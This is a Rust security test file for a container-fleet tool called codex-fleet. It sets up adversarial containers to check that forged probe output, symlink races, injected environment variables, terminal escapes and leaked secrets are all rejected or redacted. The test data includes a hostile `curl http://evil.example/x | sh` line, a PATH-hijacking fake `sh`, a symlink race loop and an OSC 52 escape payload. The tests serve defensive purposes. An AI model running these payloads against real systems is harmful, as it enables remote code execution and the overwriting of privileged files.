//! Every container is an adversary (issue 10, items 2-4): hostile containers on the real engine,
//! attacked through BOTH the Docker backend and the AWS backend on real containers
//! (tests/aws_real_support: the production host scripts run by `sh` through SSM's semantics).
//! One fleet serves every case:
//! - `forger`: its PATH starts with a directory it writes to, where its own `sh` prints the real
//!   probe output followed by forged host-script frame markers and a forged record for its
//!   neighbour (the neighbour's full id and name, an attacker's boot script with the
//!   neighbour's real emitter sha256). The neighbour must be read as it is, no forged record
//!   accepted, and an apply must write the neighbour's fix of ITS OWN emitter; root must never
//!   run the forger's `sh`.
//! - `racer`: a loop (as the agent, bounded in time) keeps swapping config.toml and any
//!   codex-fleet temporary file in its CODEX_HOME for symbolic links to root's files, while
//!   backups and writes run: no file outside the agent's own is written or copied.
//! - `cfp`: CFP_* variables in its environment: the probe ignores them (paths, mode, timeouts).
//! Fails instead of skipping under CI when the engine or the images are missing.

mod aws_real_support;
mod common;
mod docker_support;

use std::time::Duration;

use aws_real_support::*;
use codex_fleet::fleet::{AgentRef, BackupRequest, Fleet, WriteRequest};
use codex_fleet::plan::plan;
use codex_fleet::scan::{scan, FleetReport};
use docker_support::*;

const INSTANCE: &str = "i-0hostile00000001";

/// The forger's `sh`: the real one, then forged frames and a forged record for the neighbour.
const FORGER_SH: &str = r#"#!/bin/bash
[ "$(id -u)" = 0 ] && : > /forger-ran-as-root
/bin/sh "$@"
V=$(cat /home/agent/victim.id); N=$(cat /home/agent/victim.name); S=$(cat /home/agent/victim.sha)
evil='#!/bin/sh%0acurl -s http://evil.example/x | sh # EVIL-FORGED%0a'
printf '#cfh 1 item 1 end 0\n#cfh 1 item 2 scan\n'
printf 'c id=%s name=%s image=x iid=x st=running rc=0 at=x u=1000 cmd= lb=\n' "$V" "$N"
printf '#cfp 1 d\nem=%s\nems=%s\nemx=%s\ncf=@0123456789ab:30\n#cfp 1 end 4\n' "$S" "$S" "$evil"
printf '#cfh 1 item 2 end 0\n#cfh 1 end 2\n#cfz 1 end\n'
"#;

/// The racer: for RACE seconds, config.toml and every temporary file codex-fleet makes in
/// CODEX_HOME are replaced by links to root's files, again and again.
const RACER_SH: &str = r#"end=$(( $(date +%s) + $1 )); H=/home/agent/.codex
cp "$H/config.toml" "$H/config.real"
while [ "$(date +%s)" -lt "$end" ]; do
  for t in "$H"/.codex-fleet-write.*; do [ -e "$t" ] && ln -sfn /etc/cf-victim "$t"; done
  ln -sfn /etc/cf-secret "$H/config.toml"
  for t in "$H"/.codex-fleet-write.*; do [ -e "$t" ] && ln -sfn /etc/cf-victim "$t"; done
  cp "$H/config.real" "$H/config.new" && mv -f "$H/config.new" "$H/config.toml"
done
cp "$H/config.real" "$H/config.new" && mv -f "$H/config.new" "$H/config.toml"
touch /home/agent/race.done"#;

const SECRET: &str = "TOPSECRET-cf-0123456789";

fn agent<'a>(r: &'a FleetReport, name: &str) -> &'a codex_fleet::scan::AgentState {
    r.agents().find(|a| a.read.agent.name == name).unwrap_or_else(|| panic!("{name} not scanned"))
}

/// One record per real container, each keyed by its full id; the victim read as it is.
fn check_scan(path: &str, f: &TestFleet, r: &FleetReport, victim_emitter: &[u8]) {
    let mut ids: Vec<&str> = r.agents().map(|a| a.read.agent.container_id.as_str()).collect();
    let n = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), n, "{path}: a container id twice");
    let mut names: Vec<String> = r.agents().map(|a| a.read.agent.name.clone()).collect();
    names.sort();
    let mut want: Vec<String> = ["cfp", "forger", "racer", "victim"].iter().map(|s| f.name(s)).collect();
    want.sort();
    assert_eq!(names, want, "{path}: exactly the real containers");
    for a in r.agents() {
        let full = docker_ok(&["inspect", "--format", "{{.Id}}", &a.read.agent.name]).trim().to_string();
        assert_eq!(a.read.agent.container_id, full, "{path}: {} keyed by its own full id", a.read.agent.name);
    }
    let v = agent(r, &f.name("victim"));
    let p = v.read.probe.as_ref().unwrap_or_else(|e| panic!("{path}: victim: {e}"));
    assert_eq!(p.emitter.redacted.as_deref().map(str::as_bytes), Some(victim_emitter), "{path}: the victim as it is");
    let json = r.to_json().to_string();
    assert!(!json.contains("EVIL-FORGED"), "{path}: forged content reached the report");
    // CFP_* in the environment steer nothing.
    let c = agent(r, &f.name("cfp"));
    let p = c.read.probe.as_ref().unwrap_or_else(|e| panic!("{path}: cfp: {e}"));
    assert_eq!(p.emitter.path, EMITTER, "{path}: CFP_EMITTER ignored");
    assert_eq!(p.config.path, CONFIG, "{path}: CFP_CODEX_HOME ignored");
    assert!(p.emitter.redacted.is_some() && p.config.redacted.is_some(), "{path}: files mode despite CFP_MODE");
    let pl = plan(r, &[c.read.agent.id()], "t", "now");
    for a in &pl.agents {
        for fp in a.files.iter().filter(|x| x.write) {
            assert!(fp.path == EMITTER || fp.path == CONFIG, "{path}: the plan writes {}", fp.path);
        }
    }
}

/// Backups and writes on the racer while it swaps links; then nothing outside its files changed.
async fn race(path: &str, f: &TestFleet, fleet: &dyn Fleet, a: &AgentRef, run: &str) {
    assert!(f.exec("racer", None, &["rm", "-f", "/home/agent/race.done"]).0);
    docker_ok(&["exec", "-d", "-u", "agent", &f.name("racer"), "/bin/sh", "-c", RACER_SH, "race", "20"]);
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let mut outcomes = Vec::new();
    let mut i = 0;
    while !f.exec("racer", None, &["test", "-e", "/home/agent/race.done"]).0 {
        assert!(std::time::Instant::now() < deadline, "{path}: the racer did not end");
        let run_id = format!("{run}-{i}");
        i += 1;
        let b = fleet.backup(a, &BackupRequest { path: CONFIG.into(), run_id: run_id.clone() }).await;
        let read = fleet.read_agent(a).await;
        let w = match read.as_ref().ok().and_then(|r| r.probe.as_ref().ok()) {
            Some(p) => {
                let before = p.config.redacted.clone().unwrap_or_default();
                let req = WriteRequest {
                    path: CONFIG.into(),
                    before_sha256: p.config.sha256.clone(),
                    after_redacted: format!("# race {i}\n{before}"),
                    run_id,
                    before_redacted: Some(before.to_string()),
                };
                Some(fleet.write_file(a, &req).await)
            }
            None => None,
        };
        outcomes.push(format!("{:?} / {:?}", b.map(|_| "ok").map_err(|e| e.to_string()), w.map(|r| r.map(|_| "ok").map_err(|e| e.to_string()))));
    }
    eprintln!("{path}: {} rounds during the race: {outcomes:#?}", outcomes.len());
    assert!(outcomes.len() >= 2, "{path}: too few rounds to mean anything");
    assert_eq!(f.read("racer", "/etc/cf-victim"), b"victim-original\n", "{path}: root's file untouched");
    assert_eq!(f.read("racer", "/etc/cf-secret"), format!("{SECRET}\n").as_bytes(), "{path}: root's secret untouched");
    assert_eq!(f.stat("racer", "/etc/cf-victim"), "root:root 644");
    let (_, found) = f.exec("racer", None, &["sh", "-c", &format!("grep -rl {SECRET} /var/backups/codex-fleet /home/agent 2>/dev/null; true")]);
    assert!(found.trim().is_empty(), "{path}: root's secret copied to {found}");
    assert_eq!(f.stat("racer", "/etc/passwd"), "root:root 644");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_containers_through_docker_and_aws_on_real_containers() {
    let Some(img) = images() else { return };
    let _state = state_dir();
    let mut f = TestFleet::new("hostile", img.clone());
    let on = format!("cf-sim.instance={INSTANCE}");
    let agent_path = "PATH=/home/agent/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
    f.add(vec![
        Spec::new("victim", &img.runtime).arg("--label").arg(&on),
        Spec::new("forger", &img.runtime).arg("--label").arg(&on).arg("-e").arg(agent_path),
        Spec::new("racer", &img.runtime).arg("--label").arg(&on),
        Spec::new("cfp", &img.runtime)
            .arg("--label")
            .arg(&on)
            .arg("-e")
            .arg("CFP_EMITTER=/home/agent/evil.sh")
            .arg("-e")
            .arg("CFP_CODEX_HOME=/home/agent/elsewhere")
            .arg("-e")
            .arg("CFP_MODE=summary")
            .arg("-e")
            .arg("CFP_TIMEOUT=x"),
    ]);
    // The forger learns its neighbour (an attacker may know it) and installs its own `sh`.
    let victim_id = docker_ok(&["inspect", "--format", "{{.Id}}", &f.name("victim")]).trim().to_string();
    let victim_emitter = f.read("victim", EMITTER);
    let victim_sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&victim_emitter))
    };
    let script = format!(
        "mkdir -p /home/agent/bin && printf %s '{}' > /home/agent/bin/sh && chmod 755 /home/agent/bin/sh && \
         printf %s {victim_id} > /home/agent/victim.id && printf %s {} > /home/agent/victim.name && printf %s {victim_sha} > /home/agent/victim.sha",
        FORGER_SH.replace('\'', "'\\''"),
        f.name("victim")
    );
    assert!(f.exec("forger", Some("agent"), &["/bin/sh", "-c", &script]).0);
    // Root's files the racer aims at.
    assert!(f.exec("racer", None, &["sh", "-c", &format!("printf 'victim-original\\n' > /etc/cf-victim && chmod 644 /etc/cf-victim && printf '{SECRET}\\n' > /etc/cf-secret && chmod 600 /etc/cf-secret")]).0);

    let docker = f.fleet().await;
    let (aws, _sim) = aws_fleet(&[instance(INSTANCE, "hostile-1")], &format!("label=cf-test.agent={}", f.run), &f.gitea_url);
    let fleets: [(&str, &dyn Fleet); 2] = [("docker", &docker), ("aws", &aws)];

    for (path, fleet) in fleets {
        let r = scan(fleet, |_| {}).await.unwrap();
        check_scan(path, &f, &r, &victim_emitter);
        // The forger's record is its own, whatever it printed.
        let fa = agent(&r, &f.name("forger"));
        assert_ne!(fa.read.agent.container_id, victim_id, "{path}");
        // Apply to the victim: the fix of its own emitter, nothing of the forger's.
        let victim = agent(&r, &f.name("victim")).read.agent.clone();
        let p = plan(&r, &[victim.id()], &fleet.describe(), "now");
        let vp = p.agents.iter().find(|a| a.agent == victim).expect("victim planned");
        let w = vp.files.iter().find(|x| x.write && x.path == EMITTER).expect("emitter planned");
        let run = format!("{path}-{}", f.run);
        let req = WriteRequest {
            path: EMITTER.into(),
            before_sha256: w.before_sha256.clone(),
            after_redacted: w.after_redacted.clone(),
            run_id: run.clone(),
            before_redacted: Some(w.before_redacted.clone()),
        };
        fleet.write_file(&victim, &req).await.unwrap();
        let now = String::from_utf8(f.read("victim", EMITTER)).unwrap();
        assert_eq!(now, w.after_redacted, "{path}");
        assert!(!now.contains("EVIL-FORGED"), "{path}");
        // Put it back for the next path (the run's backup, conditional on what was written).
        let bk = format!("/var/backups/codex-fleet/{run}/%2fusr%2flocal%2fbin%2fcodex_mcp_config.sh");
        let sha = {
            use sha2::Digest;
            hex::encode(sha2::Sha256::digest(now.as_bytes()))
        };
        let rr = codex_fleet::fleet::RestoreRequest { path: EMITTER.into(), backup_path: bk, expected_current_sha256: Some(sha) };
        fleet.restore_file(&victim, &rr).await.unwrap();
        assert_eq!(f.read("victim", EMITTER), victim_emitter, "{path}: restored");
        // A write whose before-content is not the file's is refused even with the right sha256
        // (the content is compared, not only what the container said its hash is).
        let forged = WriteRequest { before_redacted: Some("#!/bin/sh\n# not what is there\n".into()), run_id: format!("{run}-f"), ..req.clone() };
        assert!(matches!(fleet.write_file(&victim, &forged).await, Err(codex_fleet::fleet::FleetError::Changed { .. })), "{path}");
        assert_eq!(f.read("victim", EMITTER), victim_emitter, "{path}: nothing written");
        // Root never ran the forger's `sh`: its ops still work and its files are root's.
        let forger = fa.read.agent.clone();
        let b = fleet.backup(&forger, &BackupRequest { path: EMITTER.into(), run_id: format!("{run}-fb") }).await.unwrap();
        assert!(b.is_some(), "{path}");
        assert!(!f.exec("forger", None, &["test", "-e", "/forger-ran-as-root"]).0, "{path}: root ran the agent's `sh`");
        // Only the full id names a container: a prefix is refused with nothing done.
        let prefix = AgentRef { container_id: victim.container_id[..12].to_string(), ..victim.clone() };
        let rp = fleet.backup(&prefix, &BackupRequest { path: EMITTER.into(), run_id: format!("{run}-p") }).await;
        assert!(matches!(rp, Err(codex_fleet::fleet::FleetError::Refused(_))), "{path}: {rp:?}");
        // The racer.
        let ra = agent(&r, &f.name("racer")).read.agent.clone();
        race(path, &f, fleet, &ra, &format!("{run}-race")).await;
    }
}

// ---------------------------------------------------------------------------------------------
// Terminal escapes and secrets (issue 10 items 5 and 6, acceptance).

/// Escapes a container can print: an OSC 52 clipboard write, cursor moves and line erases, BEL,
/// a bare ESC and a C1 CSI.
const ESCAPES: &str = "\x1b]52;c;SGFja2Vk\x07\x1b[2A\x1b[2K\x07\x1b \u{9b}31m";

/// Every secret the `loud` container holds; none may appear in any output.
const LOUD_SECRETS: [&str; 20] = [
    "QLBA1Q", "QLBA2Q", "QLBP1Q", "QLBP2Q", "QLBN1Q", "QLBN2Q", // labels
    "QARG1Q", "QARG2Q", "QARG3Q", "QARG4Q", "QARG5Q", // argv
    "QCFG1Q", "QCFG2Q", "QCFG3Q", "QCFG4Q", "QCFG5Q", "QCFG6Q", "QCFG7Q", // config.toml arrays
    "QWRN1Q", "QWRN2Q9x", // the boot WARN line
];

/// config.toml of the loud agent: secrets in arrays of every shape, escapes in a comment.
fn loud_config() -> String {
    format!(
        "# {ESCAPES} hidden\nmodel = \"o4-mini\"\napi_keys = [\"QCFG1Q\", 'QCFG2Q']\n\n[mcp_servers.x]\ncommand = \"npx\"\n\
         args = [\"-y\", \"--api-key\", \"QCFG3Q\"]\nenv = [\"GITHUB_TOKEN=QCFG4Q QCFG5Q\"]\nsecret_list = [\n  \"QCFG6Q\",\n  \"QCFG7Q\",\n]\n"
    )
}

/// The URL of the loud agent's boot check: the runtime logs it in its WARN line when the check
/// fails (`WARN: network boot check failed: GET URL returned 000; continuing boot`), so the
/// line carries secrets, escapes and 400 characters of padding.
fn loud_boot_url() -> String {
    format!("http://g/api/v1/version?token=QWRN1Q {ESCAPES} Bearer QWRN2Q9x {}", "p".repeat(400))
}

fn assert_no_secret(what: &str, text: &str) {
    for s in LOUD_SECRETS {
        assert!(!text.contains(s), "{what}: secret {s:?} leaked:\n{text}");
    }
}

/// Text for a terminal: no raw ESC, BEL or C1 CSI byte.
fn assert_inert(what: &str, text: &str) {
    for c in ['\x1b', '\x07', '\u{9b}'] {
        assert!(!text.contains(c), "{what}: raw {c:?} on the terminal:\n{text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escapes_inert_and_no_secret_in_any_output_through_docker_aws_and_the_binary() {
    let Some(img) = images() else { return };
    let state = state_dir();
    let mut f = TestFleet::new("loud", img.clone());
    let on = format!("cf-sim.instance={INSTANCE}");
    let esc_label = format!("escapes={ESCAPES}end");
    let mut spec = Spec::new("loud", &img.runtime)
        .arg("--label")
        .arg(&on)
        .arg("--label")
        .arg("auth.token=Bearer QLBA1Q QLBA2Q")
        .arg("--label")
        .arg("password=QLBP1Q QLBP2Q")
        .arg("--label")
        .arg("note=GITHUB_TOKEN=QLBN1Q QLBN2Q")
        .arg("--label")
        .arg(&esc_label)
        .arg("-e")
        .arg(&format!("CODEX_BOOT_CHECK_URL={}", loud_boot_url()));
    let api_keys = "api_keys=[\"QARG4Q\", \"QARG5Q\"]".to_string();
    spec.cmd = ["codex", "app-server", "--api-key", "QARG1Q", "--password=QARG2Q QARG3Q", "-c", &api_keys, ESCAPES]
        .iter()
        .map(|s| s.to_string())
        .collect();
    f.add(vec![spec]);
    let name = f.name("loud");
    // Its config.toml (as the agent); its boot WARN line is in its log.
    let cfg = loud_config();
    let w = format!("cat > {CONFIG} <<'CFEOF'\n{cfg}CFEOF\n");
    assert!(f.exec("loud", Some("agent"), &["/bin/sh", "-c", &w]).0);
    let log = docker(&["logs", &name]);
    assert!(String::from_utf8_lossy(&log.stdout).contains("QWRN1Q"), "the WARN line is in the log");

    let docker = f.fleet().await;
    let (aws, _sim) = aws_fleet(&[instance(INSTANCE, "loud-1")], &format!("label=cf-test.agent={}", f.run), &f.gitea_url);
    let fleets: [(&str, &dyn Fleet); 2] = [("docker", &docker), ("aws", &aws)];
    let mut reads = Vec::new();
    for (path, fleet) in fleets {
        let r = scan(fleet, |_| {}).await.unwrap();
        let a = agent(&r, &name);
        let json = r.to_json().to_string();
        assert_no_secret(&format!("{path}: scan JSON"), &json);
        // JSON keeps the exact text (escaped per JSON).
        assert_eq!(a.read.labels.get("escapes").map(String::as_str), Some(&format!("{ESCAPES}end")[..]), "{path}");
        let p = a.read.probe.as_ref().unwrap_or_else(|e| panic!("{path}: {e}"));
        let cfg_seen = p.config.redacted.clone().unwrap_or_default();
        assert!(cfg_seen.contains(ESCAPES), "{path}: the config as it is, escapes and all");
        assert!(cfg_seen.contains("\"--api-key\", \"<redacted:"), "{path}: {cfg_seen}");
        assert_no_secret(&format!("{path}: config"), &cfg_seen);
        let bw = a.read.boot_warn.clone().unwrap_or_else(|| panic!("{path}: no boot WARN line"));
        assert!(bw.starts_with("WARN: network boot check failed") && bw.contains(ESCAPES), "{path}: {bw:?}");
        assert_eq!(bw.chars().count(), 300, "{path}: bounded");
        assert_eq!(a.read.labels["auth.token"], "<redacted>", "{path}");
        assert_eq!(a.read.labels["password"], "<redacted>", "{path}");
        assert!(a.read.start_command.iter().any(|x| x == "<redacted:1>"), "{path}: {:?}", a.read.start_command);
        // What the CLI prints for this report (tables, plan text): inert.
        let table = codex_fleet::present::agents_table(&r);
        assert_no_secret(&format!("{path}: table"), &table);
        assert_inert(&format!("{path}: table"), &table);
        let pl = plan(&r, &[a.read.agent.id()], &fleet.describe(), "now");
        assert_no_secret(&format!("{path}: plan JSON"), &pl.to_json().to_string());
        let pt = codex_fleet::present::plan_text(&pl);
        assert_no_secret(&format!("{path}: plan text"), &pt);
        assert_inert(&format!("{path}: plan text"), &pt);
        reads.push((a.read.labels.clone(), a.read.start_command.clone(), bw, cfg_seen));
    }
    // Both paths agree: labels, argv, boot line and config text, redacted on the host alike.
    assert_eq!(reads[0].0, reads[1].0, "labels: docker vs aws");
    assert_eq!(reads[0].1, reads[1].1, "argv: docker vs aws");
    assert_eq!(reads[0].2, reads[1].2, "boot WARN line: docker vs aws");
    assert_eq!(reads[0].3, reads[1].3, "config: docker vs aws");

    // Through the binary (Docker source): every output, the saved plan and the journal.
    let filter = format!("label=cf-test.agent={}", f.run);
    let cli = |args: &[&str]| {
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_codex-fleet"))
            .args(["--docker", "--agent-filter", &filter, "--gitea-url", &f.gitea_url])
            .args(args)
            .env("CODEX_FLEET_STATE_DIR", state)
            .env("NO_COLOR", "1")
            .output()
            .unwrap();
        (o.status.code(), String::from_utf8_lossy(&o.stdout).into_owned(), String::from_utf8_lossy(&o.stderr).into_owned())
    };
    let out_dir = tempfile::tempdir().unwrap();
    let plan_file = out_dir.path().join("plan.json");
    let plan_file = plan_file.to_str().unwrap();
    for args in [vec!["scan"], vec!["show", &name], vec!["plan", "--out", plan_file]] {
        let (code, out, err) = cli(&args);
        assert!(matches!(code, Some(0..=1)), "{args:?}: {code:?}\n{err}");
        assert_no_secret(&format!("{args:?} stdout"), &out);
        assert_no_secret(&format!("{args:?} stderr"), &err);
        assert_inert(&format!("{args:?} stdout"), &out);
        assert_inert(&format!("{args:?} stderr"), &err);
    }
    let (_, shown, _) = cli(&["show", &name]);
    assert!(shown.contains("\\x1b]52;c;SGFja2Vk"), "escapes made visible in show:\n{shown}");
    for args in [vec!["scan", "--json"], vec!["show", &name, "--json"]] {
        let (code, out, err) = cli(&args);
        assert!(matches!(code, Some(0..=1)), "{args:?}: {code:?}\n{err}");
        assert_no_secret(&format!("{args:?} stdout"), &out);
        assert_no_secret(&format!("{args:?} stderr"), &err);
        assert_inert(&format!("{args:?} stderr"), &err);
        let v: serde_json::Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{args:?}: {e}\n{out}"));
        if args[0] == "show" {
            assert!(has_string(&v, ESCAPES), "{args:?}: config.toml with its escapes, exact:\n{out}");
        }
    }
    let saved = std::fs::read_to_string(plan_file).unwrap();
    assert_no_secret("saved plan", &saved);
    // A run (journal, audit, backups) needs a config codex-fleet can fix: the same secrets in
    // arrays, without the escapes (a raw ESC makes the TOML invalid). Plan, save, apply.
    let valid = cfg.lines().skip(1).collect::<Vec<_>>().join("\n") + "\n";
    let w = format!("cat > {CONFIG} <<'CFEOF'\n{valid}CFEOF\n");
    assert!(f.exec("loud", Some("agent"), &["/bin/sh", "-c", &w]).0);
    let (code, out, err) = cli(&["plan", "--out", plan_file]);
    assert_eq!(code, Some(1), "a change is planned:\n{out}\n{err}");
    assert_no_secret("plan stdout", &out);
    assert_inert("plan stdout", &out);
    let saved = std::fs::read_to_string(plan_file).unwrap();
    assert_no_secret("saved plan", &saved);
    let (code, out, err) = cli(&["apply", "--plan", plan_file, "--yes"]);
    assert_no_secret("apply stdout", &out);
    assert_no_secret("apply stderr", &err);
    assert_inert("apply stdout", &out);
    assert_inert("apply stderr", &err);
    eprintln!("apply: {code:?}\n{err}");
    assert!(matches!(code, Some(0..=1)), "apply ran: {code:?}\n{err}");
    let files = walk(state);
    for e in &files {
        let text = String::from_utf8_lossy(&std::fs::read(e).unwrap()).into_owned();
        assert_no_secret(&e.display().to_string(), &text);
    }
    assert!(files.iter().any(|p| p.components().any(|c| c.as_os_str() == "runs")), "the run's journal in {}: {files:?}", state.display());
}

/// Whether a JSON document holds a string value holding exactly this text.
fn has_string(v: &serde_json::Value, s: &str) -> bool {
    match v {
        serde_json::Value::String(x) => x.contains(s),
        serde_json::Value::Array(a) => a.iter().any(|x| has_string(x, s)),
        serde_json::Value::Object(o) => o.values().any(|x| has_string(x, s)),
        _ => false,
    }
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

/// The console (ratatui TestBackend): an agent whose name, argv and evidence carry escapes is
/// listed and shown with them made visible (`\x1b]52;…`), no control character in any cell.
#[test]
fn console_shows_escapes_made_visible() {
    use codex_fleet::tui::fixtures::{incident_fleet, keys, render};
    use codex_fleet::tui::{App, AppOptions, View};
    let mut report = incident_fleet();
    let a = &mut report.hosts[0].agents[0];
    a.read.agent.name = format!("{}{ESCAPES}", a.read.agent.name);
    a.read.start_command.push(ESCAPES.to_string());
    a.diagnosis.findings[0].evidence = format!("evidence {ESCAPES}");
    let mut app = App::with_report(
        AppOptions { read_only: true, source: "fixture".into(), no_color: true, size: (220, 90) },
        report,
    );
    let cells = |app: &App| {
        let t = render(app);
        let b = t.backend().buffer().clone();
        let mut s = String::new();
        for y in 0..b.area.height {
            for x in 0..b.area.width {
                s.push_str(b[(x, y)].symbol());
            }
            s.push('\n');
        }
        s
    };
    let visible = "\\x1b]52;c;SGFja2Vk\\x07\\x1b[2A";
    for (view, s) in [("agents", cells(&app)), ("detail", {
        keys(&mut app, "/codex-review-1<enter><enter>");
        assert_eq!(app.view, View::Detail);
        cells(&app)
    })] {
        assert!(!s.chars().any(|c| c.is_control() && c != '\n'), "{view}: a control character on screen:\n{s}");
        assert!(s.contains(if view == "agents" { "codex-review-1\\x" } else { visible }), "{view}: escapes not made visible:\n{s}");
        if view == "detail" {
            assert!(s.matches(visible).count() >= 3, "{view}: name, argv and evidence:\n{s}");
        }
    }
}
